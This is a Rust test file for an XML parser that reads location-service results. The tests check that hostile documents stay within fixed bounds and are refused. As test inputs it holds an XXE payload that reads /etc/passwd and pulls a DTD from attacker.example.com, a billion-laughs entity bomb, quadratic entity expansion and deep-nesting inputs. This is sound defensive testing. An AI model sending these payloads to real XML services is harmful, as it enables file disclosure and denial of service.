//! What hostile documents cost, in things that do not depend on the machine: markup looked at, elements entered, bytes
//! kept. Each stays below a bound that is stated here, however large or clever the document is.

use std::fmt::Write as _;

use super::samples::*;
use crate::mlp::BYTES_MAX;
use crate::mlp::answer;
use crate::mlp::error::MlpError;
use crate::mlp::quirk::Notes;
use crate::mlp::report;
use crate::mlp::xml::{ATTRIBUTES_MAX, DEPTH_MAX, ELEMENTS_MAX, Work, parse_counting};

/// No document makes more pieces of markup and text than half its bytes, and one.
const EVENTS_MAX: usize = BYTES_MAX / 2 + 1;

/// Reads a document by every reader, and gives what came of it and what it cost.
fn cost(document: &[u8]) -> (Option<MlpError>, Work) {
    let mut work = Work::default();
    let tree = parse_counting(document, &mut Notes::default(), &mut work);
    assert!(work.events <= EVENTS_MAX, "{work:?}");
    assert!(work.elements <= ELEMENTS_MAX + 1, "{work:?}");
    assert!(work.copied <= 2 * BYTES_MAX, "{work:?}");
    let error = tree.err();
    let by_answer = answer::read(document, &expect(&HABITS)).err();
    let by_report = report::read(document, &expect(&HABITS)).err();
    if let Some(error) = error {
        assert_eq!((by_answer, by_report), (Some(error), Some(error)));
    }
    (error, work)
}

#[test]
fn a_document_type_is_passed_over_unread() {
    let external = "<!DOCTYPE svc_result [<!ENTITY e SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \
                    \"http://attacker.example.com/x.dtd\">%p;]>";
    let document = shaped(&circular()).replace("<!DOCTYPE svc_result SYSTEM \"MLP_SVC_RESULT_320.DTD\">", external);
    let (found, quirks) = located(&document);
    assert!(alike(&found.area, &circle(250)) && quirks.is_empty());
    let used = document.replace(">250<", ">&e;<");
    assert_eq!(read(&used), Err(MlpError::Entity));
    let in_attribute = document.replace("\"MSISDN\"", "\"&e;\"");
    assert_eq!(read(&in_attribute), Err(MlpError::Entity));
    let late = shaped(&circular()).replace("<pos>", "<!DOCTYPE pos><pos>");
    assert_eq!(read(&late), Err(MlpError::Malformed));
}

#[test]
fn entities_do_not_grow() {
    let mut laughs = "<!DOCTYPE l [<!ENTITY l0 \"ha\">".to_owned();
    for level in 1..=50 {
        let _ = write!(
            laughs,
            "<!ENTITY l{level} \"{}\">",
            format!("&l{};", level - 1).repeat(10)
        );
    }
    let document = format!("{laughs}]><svc_result><slia><pos>&l50;</pos></slia></svc_result>");
    let (error, work) = cost(document.as_bytes());
    assert_eq!(error, Some(MlpError::Entity));
    assert!(work.events <= 8 && work.copied < 100, "{work:?}");
    // One long entity, named many times.
    let quadratic = format!(
        "<!DOCTYPE q [<!ENTITY a \"{}\">]><svc_result>{}</svc_result>",
        "a".repeat(30_000),
        "&a;".repeat(10_000)
    );
    let (error, work) = cost(quadratic.as_bytes());
    assert_eq!(error, Some(MlpError::Entity));
    assert!(work.copied < 100, "{work:?}");
    // References that XML itself has are never longer than what they are written with.
    let plain = format!("<svc_result>{}</svc_result>", "&lt;&#x1F600;".repeat(4000));
    let (error, work) = cost(plain.as_bytes());
    assert_eq!(error, None);
    assert!(work.copied < plain.len(), "{work:?}");
}

#[test]
fn a_huge_document_is_refused_by_its_length() {
    let huge = vec![b' '; 64 * 1024 * 1024];
    assert_eq!(cost(&huge), (Some(MlpError::TooLong), Work::default()));
    let document = format!("{}{}", shaped(&circular()), " ".repeat(BYTES_MAX));
    assert_eq!(cost(document.as_bytes()), (Some(MlpError::TooLong), Work::default()));
}

#[test]
fn an_endless_document_ends_where_it_is_cut() {
    for unit in [
        "<a>",
        "<a/>",
        "<a>x</a>",
        "<!-- -->",
        "&lt;",
        "x",
        "<?p?>",
        "<![CDATA[x]]>",
        "<!DOCTYPE d>",
    ] {
        for start in ["", "<svc_result><slia>"] {
            let document = start.to_owned() + &unit.repeat(BYTES_MAX);
            let (error, work) = cost(document.get(..BYTES_MAX).expect("ASCII").as_bytes());
            assert!(error.is_some(), "{unit}");
            assert!(work.elements <= ELEMENTS_MAX + 1, "{unit} {work:?}");
        }
    }
    for open in [
        "<!--",
        "<![CDATA[",
        "<!DOCTYPE d [",
        "<!DOCTYPE d [<!ENTITY e '",
        "<?",
        "<a b='",
        "&",
        "</",
    ] {
        let document = format!("<svc_result>{open}{}", "z".repeat(BYTES_MAX - 100));
        let (error, work) = cost(document.as_bytes());
        assert_eq!(error, Some(MlpError::Malformed), "{open}");
        assert!(work.events <= 4, "{open} {work:?}");
    }
}

#[test]
fn a_deep_document_is_left_at_the_bound() {
    for name in ["a", "v:a"] {
        let document = format!("<svc_result>{}", format!("<{name}>").repeat(10_000));
        let (error, work) = cost(document.as_bytes());
        assert_eq!(error, Some(MlpError::TooDeep));
        assert_eq!(work.elements, DEPTH_MAX + 1);
    }
    let nested = |depth: usize| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    assert_eq!(cost(nested(DEPTH_MAX).as_bytes()).0, None);
    assert_eq!(cost(nested(DEPTH_MAX + 1).as_bytes()).0, Some(MlpError::TooDeep));
    let multi = format!("{}{}", "<MultiPolygon>".repeat(25), "</MultiPolygon>".repeat(25));
    assert_eq!(read(&shaped(&multi)), Err(MlpError::Shape));
}

#[test]
fn a_wide_document_is_left_at_the_bound() {
    let wide = |count: usize| format!("<svc_result>{}</svc_result>", "<a/>".repeat(count));
    assert_eq!(cost(wide(ELEMENTS_MAX - 1).as_bytes()).0, None);
    let (error, work) = cost(wide(ELEMENTS_MAX).as_bytes());
    assert_eq!((error, work.elements), (Some(MlpError::TooMany), ELEMENTS_MAX + 1));
    let attributes = |count: usize| {
        let attributes: String = (0..count).map(|index| format!(" a{index}=\"\"")).collect();
        format!("<svc_result{attributes}/>")
    };
    assert_eq!(cost(attributes(ATTRIBUTES_MAX).as_bytes()).0, None);
    assert_eq!(
        cost(attributes(ATTRIBUTES_MAX + 1).as_bytes()).0,
        Some(MlpError::TooMany)
    );
    let (error, work) = cost(attributes(6000).as_bytes());
    assert_eq!(error, Some(MlpError::TooMany));
    assert!(work.copied < 200, "{work:?}");
}

#[test]
fn the_costliest_shapes_stay_cheap() {
    // As many corners as fit, of one polygon and of many shapes: what geometry costs grows with their square at most.
    let corners = |count: u32| -> String {
        let corner = |step: u32| {
            let (sine, cosine) = (f64::from(step) * std::f64::consts::TAU / f64::from(count)).sin_cos();
            format!("<coord><X>{:.6}</X><Y>{:.6}</Y></coord>", sine / 10.0, cosine / 10.0)
        };
        (0..count).map(corner).collect()
    };
    let polygon = |count| {
        format!(
            "<Polygon><outerBoundaryIs><LinearRing>{}</LinearRing></outerBoundaryIs></Polygon>",
            corners(count)
        )
    };
    let (found, _) = located(&shaped(&polygon(650)));
    assert!(found.area.enclosing_circle().radius.value() < 12_000.0);
    assert_eq!(read(&shaped(&polygon(700))), Err(MlpError::TooMany));
    let many = circular().repeat(64);
    let (found, _) = located(&shaped(&format!("<MultiPolygon>{many}</MultiPolygon>")));
    assert!(found.area.enclosing_circle().radius.value() < 260.0);
}

#[test]
fn what_is_not_xml_is_refused() {
    for document in [
        &b"\xff\xfe<\0a\0/\0>\0"[..],
        b"\0<\0a\0/\0>",
        b"<a>\0</a>",
        b"<a>\x1b</a>",
        b"<a>&#0;</a>",
        b"<a>&#x1b;</a>",
        b"<a>&#xD800;</a>",
        b"<a>&#99999999999;</a>",
        b"<a b='&#0;'/>",
        b"<a b='&#x8;'/>",
        b"<a>&</a>",
        b"<a b='1' b='2'/>",
        b"<a b=1/>",
        b"<a b/>",
        b"<a></b>",
        b"<a/><a/>",
        b"<a/>x",
        b"x<a/>",
        b"</a>",
        b"<a",
    ] {
        let (error, _) = cost(document);
        assert!(
            matches!(error, Some(MlpError::Malformed | MlpError::Encoding)),
            "{document:?} {error:?}"
        );
    }
    let utf16 = b"<?xml version='1.0' encoding='UTF-16'?><a/>";
    assert_eq!(cost(utf16).0, Some(MlpError::Encoding));
    let utf7 = b"<?xml version='1.0' encoding='UTF-7'?><a/>";
    assert_eq!(cost(utf7).0, Some(MlpError::Encoding));
}
